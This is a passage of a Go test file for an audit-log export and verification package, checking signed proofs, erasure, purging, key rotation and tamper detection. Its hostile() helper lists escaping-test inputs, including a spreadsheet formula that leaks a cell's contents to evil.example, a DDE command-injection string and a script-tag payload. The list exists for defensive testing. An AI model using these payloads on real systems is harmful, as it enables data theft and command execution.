package audit_test

import (
	"bytes"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"orgconsole/internal/audit"
	"orgconsole/internal/database"
	"orgconsole/internal/database/databasetest"
)

// fill makes a log of an organization at once.
func (s *store) fill(tb testing.TB, events int) {
	tb.Helper()
	if err := s.log.Fill(tb.Context(), acme, events, func(n int) audit.Event { return deletion(acme, n) }); err != nil {
		tb.Fatal(err)
	}
}

// export returns a whole file.
func (s *store) export(tb testing.TB, format audit.Format, organizationID string, f audit.Filter) []byte {
	tb.Helper()
	var file bytes.Buffer
	n, err := s.log.Reader().Export(tb.Context(), organizationID, f, audit.NewEncoder(&file, format, "test", s.clock.Now()))
	if err != nil {
		tb.Fatalf("after %d events: %v", n, err)
	}
	return file.Bytes()
}

func exportedSeqs(t *testing.T, file []byte) []int64 {
	t.Helper()
	var seqs []int64
	lines := bytes.Split(bytes.TrimSpace(file), []byte("\n"))
	for _, line := range lines[1 : len(lines)-1] {
		var record struct{ Seq int64 }
		if err := json.Unmarshal(line, &record); err != nil {
			t.Fatal(err)
		}
		seqs = append(seqs, record.Seq)
	}
	return seqs
}

// Every size of tree has other incomplete edges, and every filter other gaps.
func TestEveryExportVerifies(t *testing.T) {
	t.Parallel()
	onEach(t, testEveryExportVerifies)
}

func testEveryExportVerifies(t *testing.T, s *store) {
	filters := map[string]audit.Filter{
		"all": {}, "outcomes": {Outcome: "succeeded"}, "one operation": {OperationID: "operation-3"}, "none": {Outcome: "denied"},
	}
	for size := 1; size <= 40; size++ {
		s.record(t, deletion(acme, size-1))
		for name, filter := range filters {
			file := s.export(t, audit.FormatNDJSON, acme, filter)
			report, err := audit.VerifyExport(bytes.NewReader(file), s.public)
			if err != nil {
				t.Fatalf("%s of %d: %v\n%s", name, size, err, file)
			}
			page, err := s.log.List(t.Context(), acme, filter, "", 100)
			if err != nil {
				t.Fatal(err)
			}
			want := seqs(page.Events)
			slices.Reverse(want)
			if diff := cmp.Diff(want, exportedSeqs(t, file)); diff != "" {
				t.Errorf("%s of %d: records (-want +got):\n%s", name, size, diff)
			}
			tree := report.Trees[0]
			if tree.Size != int64(size) || tree.Records != int64(len(want)) || tree.OrganizationID != acme || tree.Complete() != (len(want) == size) {
				t.Errorf("%s of %d: %+v, complete %v", name, size, tree, tree.Complete())
			}
		}
	}
}

// Where chunks meet, a path goes on from the chunk before.
func TestExportOfSeveralChunksVerifies(t *testing.T) {
	t.Parallel()
	onEach(t, testExportOfSeveralChunksVerifies)
}

func testExportOfSeveralChunksVerifies(t *testing.T, s *store) {
	const events = 4321
	s.fill(t, events)
	for name, c := range map[string]struct {
		filter audit.Filter
		want   int64
	}{
		"all":          {audit.Filter{}, events},
		"every second": {audit.Filter{Outcome: "succeeded"}, events / 2},
		"few":          {audit.Filter{TargetQuery: "person12"}, 2 * (1 + 10 + 100 + 961 - 961)},
	} {
		file := s.export(t, audit.FormatNDJSON, acme, c.filter)
		report, err := audit.VerifyExport(bytes.NewReader(file), s.public)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if report.Records != c.want {
			t.Errorf("%s: %d records, want %d", name, report.Records, c.want)
		}
	}
}

// A line holds what people and their tools look for, and the bytes that prove it.
func TestNDJSONLine(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	recorded := s.record(t, deletion(acme, 1))
	lines := bytes.Split(s.export(t, audit.FormatNDJSON, acme, audit.Filter{Action: "member.password.delete", From: recorded.Time}), []byte("\n"))
	if len(lines) != 4 || len(lines[3]) != 0 {
		t.Fatalf("%d lines, want a head, a record, an end", len(lines))
	}
	_, evidence, err := s.log.Event(t.Context(), acme, recorded.ID)
	if err != nil {
		t.Fatal(err)
	}
	var head, record, end map[string]any
	for i, into := range []*map[string]any{&head, &record, &end} {
		if err := json.Unmarshal(lines[i], into); err != nil {
			t.Fatal(err)
		}
	}
	salts := map[string]string{}
	for _, subject := range record["subjects"].([]any) {
		m := subject.(map[string]any)
		salts[m["field"].(string)] = m["salt"].(string)
		delete(m, "salt")
	}
	if len(salts) != 4 || len(salts["source.ip"]) != 32 {
		t.Errorf("salts %v", salts)
	}
	at := recorded.Time.Format("2006-01-02T15:04:05.000Z")
	want := map[string]any{
		"seq": 0.0, "id": recorded.ID, "organization_id": acme, "time": at, "action": "member.password.delete", "phase": "outcome",
		"operation_id": "operation-0", "outcome": "succeeded", "reason": "caller lost the phone and said so", "ticket": "HD-1",
		"actor": map[string]any{
			"member_id": "member-test-helpdesk", "email": "helpdesk@acme.example", "session_id": "session-test-1", "system": false,
			"auth_factors": []any{"password", "totp"},
		},
		"target": map[string]any{
			"type": "member", "id": "member-test-0", "label": `Person 0 "Ö%_"`, "email": "person0@acme.example", "password_id": "member-password-test-0",
		},
		"http": map[string]any{"status": 200.0, "error_type": ""}, "upstream_request_id": "request-id-test-1", "attempt": 1.0, "count": 0.0,
		"detail": "answer", "source": map[string]any{"ip": "192.0.2.7", "user_agent": "test"}, "request_id": "request-1", "build": "test",
		"bytes": string(evidence.Bytes), "leaf_hash": evidence.LeafHash, "proof": []any{},
		"subjects": []any{
			map[string]any{"field": "actor.email", "text": "helpdesk@acme.example"},
			map[string]any{"field": "target.label", "text": `Person 0 "Ö%_"`},
			map[string]any{"field": "target.email", "text": "person0@acme.example"},
			map[string]any{"field": "source.ip", "text": "192.0.2.7"},
		},
	}
	if diff := cmp.Diff(want, record); diff != "" {
		t.Errorf("record (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(map[string]any{"kind": "orgconsole_audit_export_end", "count": 1.0}, end); diff != "" {
		t.Errorf("end (-want +got):\n%s", diff)
	}
	origin, _, _ := strings.Cut(evidence.Checkpoint, "\n")
	delete(head, "created")
	want = map[string]any{
		"kind": "orgconsole_audit_export", "version": 1.0, "origin": origin, "organization_id": acme, "tree_size": 1.0, "checkpoint": evidence.Checkpoint,
		"filter": map[string]any{"action": "member.password.delete", "from": at}, "build": "test",
	}
	if diff := cmp.Diff(want, head); diff != "" {
		t.Errorf("head (-want +got):\n%s", diff)
	}
}

// hostile are texts that break what puts them between quotes, cells or lines.
func hostile() []string {
	return []string{
		`"},"outcome":"denied`, `\`, `\\"`, "a\nb\r\nc\td", "\x00\x07\x1b[31m", "\xff\xfe", "\u2028\u2029", "\u202egnp.exe", "<script>alert(1)</script>&amp;",
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1", "'=1", "'", "\ufeff=1", `=HYPERLINK("http://evil.example?"&A1,"x")`,
		"=cmd|' /C calc'!A0", "a,b;c", `a "quoted" b`, "Zoë 🦊", strings.Repeat("x", 5000), " ", "null", "(erased)",
	}
}

// recordHostile records one event with each text wherever text goes.
func (s *store) recordHostile(t *testing.T) []audit.Event {
	t.Helper()
	var all []audit.Event
	for i, text := range hostile() {
		all = append(all, s.record(t, audit.Event{
			OrganizationID: acme, Action: audit.ActionDeletePassword, Phase: audit.PhaseOutcome, Outcome: audit.OutcomeFailed, OperationID: text,
			Actor:  audit.Actor{MemberID: text, Email: text, SessionID: text, AuthFactors: []string{text}},
			Target: audit.Target{Type: text, ID: text, Label: text, Email: text, PasswordID: text},
			Reason: text, Ticket: text, HTTP: audit.HTTP{ErrorType: text}, UpstreamRequestID: text, Detail: text,
			Source: audit.Source{IP: text, UserAgent: text}, RequestID: text, Count: i,
		}))
	}
	return all
}

func TestNDJSONOfHostileText(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	recorded := s.recordHostile(t)
	file := s.export(t, audit.FormatNDJSON, acme, audit.Filter{})
	if _, err := audit.VerifyExport(bytes.NewReader(file), s.public); err != nil {
		t.Error(err)
	}
	lines := strings.Split(string(file), "\n")
	if len(lines) != len(recorded)+3 {
		t.Fatalf("%d lines for %d records", len(lines), len(recorded))
	}
	for i, ev := range recorded {
		var record struct {
			Outcome, Reason string
			Target          struct{ Label string }
			Source          struct{ IP string }
		}
		if err := json.Unmarshal([]byte(lines[i+1]), &record); err != nil {
			t.Fatalf("%q: %v", ev.Reason, err)
		}
		if record.Outcome != "failed" || record.Reason != ev.Reason || record.Target.Label != ev.Target.Label || record.Source.IP != ev.Source.IP {
			t.Errorf("%q is read back as %+v", ev.Reason, record)
		}
	}
}

func TestErasedTextsAreShownAsErased(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	for n := range 3 {
		s.record(t, deletion(acme, n))
	}
	if n, err := s.erase(t, acme, audit.Erasure{MemberID: "member-test-0", Reason: "DPO-7"}); err != nil || n != 4 {
		t.Fatal(n, err)
	}
	file := s.export(t, audit.FormatNDJSON, acme, audit.Filter{})
	report, err := audit.VerifyExport(bytes.NewReader(file), s.public)
	if err != nil {
		t.Fatal(err)
	}
	if got := report.Trees[0]; got.Erased != 4 || !got.Complete() {
		t.Errorf("%d texts erased, complete %v; want 4 of a complete log", got.Erased, got.Complete())
	}
	line := strings.Split(string(file), "\n")[2]
	for _, want := range []string{`"label":null,"email":null`, `{"field":"target.label","salt":null,"text":null}`, `"email":"helpdesk@acme.example"`} {
		if !strings.Contains(line, want) {
			t.Errorf("no %s in %s", want, line)
		}
	}
	if strings.Contains(string(file), "person0@") {
		t.Error("the address is in the export all the same")
	}
	if row := readCSV(t, s.export(t, audit.FormatCSV, acme, audit.Filter{}))[1]; row["target_email"] != "(erased)" || row["target_label"] != "(erased)" {
		t.Errorf("row %v", row)
	}
	ocsf := strings.Split(string(s.export(t, audit.FormatOCSF, acme, audit.Filter{})), "\n")[1]
	if !strings.Contains(ocsf, `"erased":["target.label","target.email"]`) || !strings.Contains(ocsf, `"user":{"uid":"member-test-0","name":"(erased)"`) {
		t.Errorf("no erased texts in %s", ocsf)
	}
	// Nobody but the log itself erases.
	s.tamper(t, `UPDATE audit_texts SET actor_email = NULL, target_label = NULL, target_email = NULL, source_ip = NULL, actor_email_salt = NULL, target_label_salt = NULL, target_email_salt = NULL, source_ip_salt = NULL WHERE tree = 2 AND seq = 2`)
	if _, err := s.log.Reader().Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(io.Discard, audit.FormatCSV, "", s.clock.Now())); !errors.Is(err, audit.ErrTampered) {
		t.Errorf("Export of a text that was erased by hand: %v, want ErrTampered", err)
	}
}

// Of purged records there is the hash, so that a whole log is seen to be whole.
func TestPurgedRecordsAreExportedAsPurged(t *testing.T) {
	t.Parallel()
	s := aged(t, databasetest.SQLite)
	s.purge(t)
	file := string(s.export(t, audit.FormatNDJSON, acme, audit.Filter{}))
	report, err := audit.VerifyExport(strings.NewReader(file), s.public)
	if err != nil {
		t.Fatal(err)
	}
	if got := report.Trees[0]; got.Purged != 10 || !got.Complete() || got.Records != 14 {
		t.Errorf("%+v, complete %v; want all of 14 records, 10 of them purged", got, got.Complete())
	}
	lines := strings.SplitAfter(file, "\n")
	if want := `,"operation_id":"operation-1","purged":{"time":"`; !strings.Contains(lines[3], want) || !strings.Contains(lines[3], `"days":90,`) || !strings.Contains(lines[3], `"bytes":null,`) {
		t.Errorf("no %s in %s", want, lines[3])
	}
	// In a part of the log, what purged them need not be there.
	part := string(s.export(t, audit.FormatNDJSON, acme, audit.Filter{OperationID: "operation-1"}))
	if report, err = audit.VerifyExport(strings.NewReader(part), s.public); err != nil || report.Trees[0].Purged != 2 {
		t.Errorf("%+v, %v; want two purged records", report, err)
	}
	for name, c := range map[string]struct{ file, want string }{
		"a leaf":             {strings.Replace(file, lines[3], strings.Replace(lines[3], `"leaf_hash":"`+leafOf(lines[3]), `"leaf_hash":"`+leafOf(lines[4]), 1), 1), "does not lead to the root"},
		"another purge":      {strings.Replace(file, lines[3], strings.Replace(lines[3], `"days":90`, `"days":30`, 1), 1), "no record says that it was purged"},
		"a place":            {strings.Replace(file, lines[3], strings.Replace(lines[3], `"seq":2`, `"seq":3`, 1), 1), "does not lead to the root"},
		"a column more":      {strings.Replace(file, lines[3], strings.Replace(lines[3], `"purged":`, `"outcome":"denied","purged":`, 1), 1), "outcome"},
		"nothing":            {strings.Replace(file, lines[3], strings.Replace(lines[3], `"purged":`, `"urged":`, 1), 1), "does not say that it was purged"},
		"a record as purged": {strings.Replace(file, lines[11], strings.Replace(lines[10], leafOf(lines[10]), leafOf(lines[11]), 1), 1), ""},
	} {
		if c.file == file {
			t.Fatalf("%s: nothing was changed", name)
		}
		if _, err := audit.VerifyExport(strings.NewReader(c.file), s.public); !errors.Is(err, audit.ErrTampered) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want %q in it", name, err, c.want)
		}
	}
	// A record that was not purged cannot be made one: its proof fits, and no purge in the whole log says so.
	kept := lines[11]
	_, proof, _ := strings.Cut(kept, `,"leaf_hash"`)
	forged := fmt.Sprintf(`{"seq":10,"id":"x","organization_id":%q,"operation_id":"","purged":{"time":"2026-11-23T10:00:00.000Z","days":90,"by":"x","by_seq":13},"bytes":null,"leaf_hash"%s`, acme, proof)
	if _, err := audit.VerifyExport(strings.NewReader(strings.Replace(file, kept, forged, 1)), s.public); err == nil || !strings.Contains(err.Error(), "record seq 10: its bytes are gone, and no record says") {
		t.Errorf("a record as purged: %v", err)
	}
	if rows := readCSV(t, s.export(t, audit.FormatCSV, acme, audit.Filter{})); rows[2]["purged"] == "" || rows[2]["time"] != "" || rows[12]["purged"] != "" {
		t.Errorf("rows %v, %v", rows[2], rows[12])
	}
	if events := readOCSF(t, s.export(t, audit.FormatOCSF, acme, audit.Filter{})); len(events) != 4 {
		t.Errorf("%d events, want those that are left and the purge", len(events))
	}
	receipt, err := s.log.Receipt(t.Context(), acme, "operation-1")
	if err != nil {
		t.Fatal(err)
	}
	if report, err := audit.VerifyReceipt(bytes.NewReader(receipt), s.public); err != nil || !strings.Contains(strings.Join(report.Statement, "\n"), "\n- record 2: purged at ") {
		t.Errorf("receipt of a purged operation: %q, %v", report.Statement, err)
	}
}

func leafOf(line string) string {
	_, leaf, _ := strings.Cut(line, `"leaf_hash":"`)
	return leaf[:44]
}

// Files from before a change of keys are verified with the key of then, given beside the new one.
func TestFilesOutliveAChangeOfKeys(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	for n := range 4 {
		s.record(t, deletion(acme, n))
	}
	old, before, receipt := s.public, s.export(t, audit.FormatNDJSON, acme, audit.Filter{}), s.receipt(t, "operation-1")
	signer := s.signer
	var err error
	if s.signer, s.public, err = audit.NewKey(rand.Reader); err != nil {
		t.Fatal(err)
	}
	s.log = s.openWith(t, s.signer, signer)
	if err := s.log.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	after, both := s.export(t, audit.FormatNDJSON, acme, audit.Filter{}), s.public+","+old
	for name, c := range map[string]struct {
		file  []byte
		keys  string
		wrong bool
	}{
		"before, with the old key":  {before, old, false},
		"before, with both":         {before, both, false},
		"before, with the new":      {before, s.public, true},
		"after, with the new":       {after, s.public, false},
		"after, with both":          {after, both, false},
		"after, with the old alone": {after, old, true},
	} {
		if _, err := audit.VerifyExport(bytes.NewReader(c.file), c.keys); errors.Is(err, audit.ErrWrongKey) != c.wrong || (err != nil) != c.wrong {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := audit.VerifyReceipt(bytes.NewReader(receipt), both); err != nil {
		t.Errorf("receipt of before: %v", err)
	}
	r, err := audit.NewReader(s.db, both)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(io.Discard, audit.FormatNDJSON, "", s.clock.Now())); err != nil {
		t.Errorf("Export with both keys: %v", err)
	}
}

// Every byte of a record and of the end counts, and all of the head that is a claim about the log.
func TestEveryByteOfAnExportCounts(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	for n := range 3 {
		s.record(t, deletion(acme, n))
	}
	file := s.export(t, audit.FormatNDJSON, acme, audit.Filter{})
	claims := bytes.Index(file, []byte(`,"filter"`))
	records := bytes.IndexByte(file, '\n')
	for i := range file {
		if i > claims && i < records {
			continue // filter, time and program: nobody vouches for them
		}
		changed := slices.Clone(file)
		changed[i] ^= []byte{1, 0x20}[i%2] // another character, or another case
		if _, err := audit.VerifyExport(bytes.NewReader(changed), s.public); err == nil {
			t.Errorf("byte %d of %d, %q made %q: verifies", i, len(file), file[max(0, i-20):i+1], changed[i])
		}
	}
}

// What somebody does to a file, and what verification says of it.
func TestVerifyExportNamesTheFirstBadLine(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	var ids []string
	for n := range 6 {
		ids = append(ids, s.record(t, deletion(acme, n)).ID)
	}
	s.record(t, deletion(globex, 0))
	file := string(s.export(t, audit.FormatNDJSON, acme, audit.Filter{}))
	other := string(s.export(t, audit.FormatNDJSON, globex, audit.Filter{}))
	lines := strings.SplitAfter(file, "\n")
	replaced := func(line int, from, to string) string {
		changed := slices.Clone(lines)
		changed[line-1] = strings.Replace(changed[line-1], from, to, 1)
		return strings.Join(changed, "")
	}
	without := func(line int) string { return strings.Join(slices.Delete(slices.Clone(lines), line-1, line), "") }
	for name, c := range map[string]struct {
		file string
		line int
		seq  int64
		want string
	}{
		"a column":            {replaced(4, `"outcome":"","reason"`, `"outcome":"denied","reason"`), 4, 2, "column outcome does not agree"},
		"a column deep":       {replaced(4, `"actor":{"member_id":"member-test-helpdesk"`, `"actor":{"member_id":"member-test-other"`), 4, 2, "column actor.member_id"},
		"the bytes":           {replaced(4, `HD-1\"`, `HD-2\"`), 4, 2, "does not agree"},
		"bytes and column":    {strings.NewReplacer("HD-1", "HD-2").Replace(file), 2, 0, "leaf_hash"},
		"a text":              {strings.Replace(file, "person1@acme", "person9@acme", 2), 4, 2, "target.email does not fit"},
		"a salt":              {replaced(4, `"salt":"`, `"salt":"00`), 4, 2, "actor.email does not fit"},
		"a text taken out":    {replaced(4, `{"field":"source.ip"`, `{"field":"source.pi"`), 4, 2, "source.ip is missing"},
		"a proof":             {replaced(4, `"proof":["`, `"proof":["AAAA`), 4, 2, "not made of hashes"},
		"another's proof":     {strings.Replace(file, proofOf(lines[3]), proofOf(lines[4]), 1), 4, 2, "does not lead to the root"},
		"no proof":            {strings.Replace(file, proofOf(lines[3]), `"proof":[]`, 1), 4, 2, "does not lead to the root"},
		"a member twice":      {replaced(4, `{"seq":2,`, `{"seq":7,"seq":2,`), 4, 2, "order or spelling"},
		"a member more":       {replaced(4, `{"seq":2,`, `{"seq":2,"note":"x",`), 4, 2, `"note", which there is none of`},
		"a space":             {replaced(4, `{"seq":2,`, `{"seq": 2,`), 4, 2, "order or spelling"},
		"not JSON":            {replaced(4, `{`, `[`), 4, -1, "not JSON"},
		"an empty line":       {replaced(4, lines[3], "\n"), 4, -1, "not JSON"},
		"a record removed":    {without(4), 7, -1, "says that there are 6 records, and there are 5"},
		"a record twice":      {strings.Replace(file, lines[3], lines[3]+lines[3], 1), 5, 2, "it stands after seq 2"},
		"two swapped":         {strings.Replace(file, lines[3]+lines[4], lines[4]+lines[3], 1), 5, 2, "it stands after seq 3"},
		"cut":                 {strings.Join(lines[:5], ""), 6, -1, "the end is missing"},
		"cut in a line":       {file[:len(file)-100], 7, -1, ""},
		"the end changed":     {strings.Replace(file, `"count":6`, `"count":7`, 1), 8, -1, "says that there are 7"},
		"the end, and more":   {file + lines[3], 9, -1, "after the end"},
		"another's record":    {strings.Replace(file, lines[3], strings.SplitAfter(other, "\n")[1], 1), 4, 0, "is of organization"},
		"another's head":      {strings.Replace(file, lines[0], strings.SplitAfter(other, "\n")[0], 1), 2, 0, "is of organization"},
		"no end between":      {strings.Replace(file, lines[7], "", 1) + other, 8, -1, "before the end"},
		"the size":            {replaced(1, `"tree_size":6`, `"tree_size":7`), 1, -1, "says that the log has 7"},
		"the organization":    {replaced(1, `"organization_id":"`+acme, `"organization_id":"`+globex), 1, -1, "says that it is of organization"},
		"the origin":          {replaced(1, `"origin":"orgconsole/`, `"origin":"orgconsole/0`), 1, -1, `says that it is of "orgconsole/0`},
		"the checkpoint":      {replaced(1, `\n6\n`, `\n7\n`), 1, -1, "signature"},
		"a very long line":    {replaced(4, `"reason":"`, `"reason":"`+strings.Repeat("x", 2<<20)), 4, -1, "longer than"},
		"a head with more":    {replaced(1, `"version":1`, `"version":1,"complete":true`), 1, -1, `"complete", which there is none of`},
		"lines of Windows":    {strings.ReplaceAll(file, "\n", "\r\n"), 1, -1, ""},
		"a byte order mark":   {"\ufeff" + file, 0, -1, "not an NDJSON export"},
		"nothing":             {"", 0, -1, "empty"},
		"a list of something": {"[]\n", 0, -1, "not an NDJSON export"},
		"another version":     {replaced(1, `"version":1`, `"version":2`), 0, -1, "version 2"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if c.file == file {
				t.Fatal("nothing was changed")
			}
			_, err := audit.VerifyExport(strings.NewReader(c.file), s.public)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("VerifyExport: %v, want %q in it", err, c.want)
			}
			f, ok := errors.AsType[*audit.FileError](err)
			if errors.Is(err, audit.ErrTampered) != ok || ok == errors.Is(err, audit.ErrNotAnExport) || ok != (c.line > 0) {
				t.Fatalf("VerifyExport: %v is of the wrong kind", err)
			}
			if ok && (f.Line != c.line || f.Seq != c.seq || c.seq >= 0 && c.seq < 6 && f.ID != ids[c.seq] && !strings.Contains(name, "another's")) {
				t.Errorf("VerifyExport: %v; want line %d, seq %d", err, c.line, c.seq)
			}
		})
	}
	if report, err := audit.VerifyExport(strings.NewReader(file+other), s.public); err != nil || len(report.Trees) != 2 || report.Records != 7 {
		t.Errorf("two logs in one file: %+v, %v", report, err)
	}
	_, wrong := mustKey(t)
	if _, err := audit.VerifyExport(strings.NewReader(file), wrong); !errors.Is(err, audit.ErrWrongKey) || !errors.Is(err, audit.ErrTampered) {
		t.Errorf("with another key: %v, want ErrWrongKey", err)
	}
}

func proofOf(line string) string {
	_, proof, _ := strings.Cut(line, `"proof":`)
	return `"proof":` + strings.TrimSuffix(proof, "}\n")
}

// Nothing is exported that does not fit, and such a file has no end.
func TestExportStopsAtWhatDoesNotFit(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		sql  string
		seq  int64
		also bool // without proofs, too
	}{
		"bytes":           {`UPDATE audit_events SET bytes = replace(bytes, 'HD-1', 'HD-2') WHERE tree = 2 AND seq = 7`, 7, false},
		"bytes, even seq": {`UPDATE audit_events SET bytes = replace(bytes, 'HD-1', 'HD-2') WHERE tree = 2 AND seq = 6`, 6, false},
		"bytes gone":      {`UPDATE audit_events SET bytes = NULL WHERE tree = 2 AND seq = 7`, 7, true},
		"bytes and hash":  {`UPDATE audit_events SET bytes = NULL WHERE tree = 2 AND seq = 7; UPDATE audit_events SET hashes = substr(hashes, 1, 0) WHERE tree = 2 AND seq = 7`, -1, true},
		"column":          {`UPDATE audit_events SET outcome = 'failed' WHERE tree = 2 AND seq = 7`, 7, true},
		"text":            {`UPDATE audit_texts SET target_label = 'x' WHERE tree = 2 AND seq = 7`, 7, true},
		"text in part":    {`UPDATE audit_texts SET target_label_salt = NULL WHERE tree = 2 AND seq = 7`, 7, true},
		"text gone":       {`UPDATE audit_texts SET target_label = '', target_label_salt = '' WHERE tree = 2 AND seq = 7`, 7, true},
		"removed":         {`DELETE FROM audit_events WHERE tree = 2 AND seq = 7`, -1, false},
		"checkpoint":      {`UPDATE audit_checkpoints SET note = (SELECT note FROM audit_checkpoints WHERE tree = 1) WHERE tree = 2`, -1, true},
		"head":            {`UPDATE audit_trees SET size = 9 WHERE tree = 2`, -1, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newStore(t)
			for n := range 10 {
				s.record(t, deletion(acme, n))
			}
			s.tamper(t, c.sql)
			for _, format := range audit.Formats() {
				var file bytes.Buffer
				_, err := s.log.Reader().Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(&file, format, "test", s.clock.Now()))
				if format != audit.FormatNDJSON && !c.also {
					if err != nil {
						t.Errorf("%s: %v", format, err)
					}
					continue
				}
				tampered, ok := errors.AsType[*audit.TamperedError](err)
				if !ok || tampered.Seq != c.seq {
					t.Errorf("%s: %v, want a TamperedError of seq %d", format, err, c.seq)
				}
				if strings.Contains(file.String(), "audit_export_end") {
					t.Errorf("%s has an end", format)
				}
			}
		})
	}
}

// With gaps between the events their proofs are made of stored hashes.
func TestExportChecksStoredHashes(t *testing.T) {
	t.Parallel()
	for name, sql := range map[string]string{
		"changed": `UPDATE audit_events SET hashes = zeroblob(32) WHERE tree = 2 AND seq = 6`, // of seq 6, beside seq 7
		"gone":    `UPDATE audit_events SET hashes = substr(hashes, 1, 0) WHERE tree = 2 AND seq = 6`,
	} {
		s := newStore(t)
		for n := range 10 {
			s.record(t, deletion(acme, n))
		}
		s.tamper(t, sql)
		_, err := s.log.Reader().Export(t.Context(), acme, audit.Filter{Outcome: "succeeded"}, audit.NewEncoder(io.Discard, audit.FormatNDJSON, "", s.clock.Now()))
		if !errors.Is(err, audit.ErrTampered) {
			t.Errorf("%s: %v, want ErrTampered", name, err)
		}
	}
}

func TestExportOfNothing(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	r := s.log.Reader()
	if _, err := r.Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(io.Discard, audit.FormatNDJSON, "", s.clock.Now())); !errors.Is(err, audit.ErrNoLog) {
		t.Errorf("Export of no log: %v, want ErrNoLog", err)
	}
	s.record(t, deletion(acme, 0))
	ids, err := r.Organizations(t.Context())
	if diff := cmp.Diff([]string{"", acme}, ids); diff != "" || err != nil {
		t.Errorf("Organizations (-want +got), %v:\n%s", err, diff)
	}
	full := errors.New("the disk is full")
	if _, err := r.Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(failing{full}, audit.FormatNDJSON, "", s.clock.Now())); !errors.Is(err, full) {
		t.Errorf("Export to a full disk: %v", err)
	}
}

type failing struct{ err error }

func (f failing) Write([]byte) (int, error) { return 0, f.err }

// What is recorded while an export runs is not in it: it would not be under the checkpoint.
func TestExportIsAsOfItsStart(t *testing.T) {
	t.Parallel()
	onEach(t, testExportIsAsOfItsStart)
}

func testExportIsAsOfItsStart(t *testing.T, s *store) {
	s.fill(t, 2500)
	var file bytes.Buffer
	added := false
	enc := audit.NewEncoder(writerFunc(func(b []byte) (int, error) {
		if !added {
			added = true
			s.record(t, deletion(acme, 0))
		}
		return file.Write(b)
	}), audit.FormatNDJSON, "test", s.clock.Now())
	n, err := s.log.Reader().Export(t.Context(), acme, audit.Filter{}, enc)
	if err != nil || n != 2500 {
		t.Errorf("%d events, %v; want those of the start", n, err)
	}
	if _, err := audit.VerifyExport(&file, s.public); err != nil {
		t.Error(err)
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(b []byte) (int, error) { return f(b) }

func TestCount(t *testing.T) {
	t.Parallel()
	onEach(t, testCount)
}

func testCount(t *testing.T, s *store) {
	for n := range 7 {
		s.record(t, deletion(acme, n))
	}
	for name, c := range map[string]struct {
		organization string
		filter       audit.Filter
		want         string
	}{
		"all":           {acme, audit.Filter{}, "7 false"},
		"fewer":         {acme, audit.Filter{Outcome: "succeeded"}, "3 false"},
		"at the limit":  {acme, audit.Filter{Action: "member.password.delete", TargetQuery: "person"}, "4 true"},
		"none":          {acme, audit.Filter{Outcome: "denied"}, "0 false"},
		"no such log":   {globex, audit.Filter{}, "0 false"},
		"no such log 2": {globex, audit.Filter{Outcome: "denied"}, "0 false"},
	} {
		n, more, err := s.log.Reader().Count(t.Context(), c.organization, c.filter, 4)
		if got := fmt.Sprint(n, more); got != c.want || err != nil {
			t.Errorf("%s: %s, %v; want %s", name, got, err, c.want)
		}
	}
}

// The command reads a store with the public key alone.
func TestReaderNeedsNoMoreThanThePublicKey(t *testing.T) {
	t.Parallel()
	s := newStore(t)
	s.record(t, deletion(acme, 0))
	path := filepath.Join(t.TempDir(), "copy.db")
	s.copyTo(t, path)
	if err := os.Chmod(path, 0o400); err != nil {
		t.Fatal(err)
	}
	db, err := database.OpenReadOnly(t.Context(), (&url.URL{Scheme: "sqlite", Path: path}).String())
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	r, err := audit.NewReader(db, s.public)
	if err != nil {
		t.Fatal(err)
	}
	if n, err := r.Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(io.Discard, audit.FormatNDJSON, "", s.clock.Now())); err != nil || n != 1 {
		t.Errorf("%d events, %v", n, err)
	}
	_, wrong := mustKey(t)
	if r, err = audit.NewReader(db, wrong); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(io.Discard, audit.FormatCSV, "", s.clock.Now())); !errors.Is(err, audit.ErrWrongKey) {
		t.Errorf("with another key: %v, want ErrWrongKey", err)
	}
	if _, err := audit.NewReader(db, "x"); err == nil {
		t.Error("any text is a key")
	}
}

// Memory does not grow with what is exported or verified: 100,000 events are some 250 MB.
//
//nolint:paralleltest // it measures the heap that all tests share
func TestExportOfManyInConstantMemory(t *testing.T) {
	manyRecords(t)
	const events, limit = 40_000, 24 << 20
	s := newStore(t)
	s.fill(t, events)
	base := heap()
	var written int64
	peak := func(w io.Writer) io.Writer {
		lines := 0
		return writerFunc(func(b []byte) (int, error) {
			if lines++; lines%(events/5) == 0 {
				if grown := heap() - base; grown > limit {
					t.Errorf("the heap has grown by %d MB after %d lines", grown>>20, lines)
				}
			}
			written += int64(len(b))
			return w.Write(b)
		})
	}
	for _, format := range []audit.Format{audit.FormatNDJSON, audit.FormatCSV} {
		read, write := io.Pipe()
		done := make(chan error, 1)
		go func() {
			if format == audit.FormatNDJSON {
				report, err := audit.VerifyExport(read, s.public)
				if err == nil && report.Records != events {
					err = fmt.Errorf("%d records", report.Records)
				}
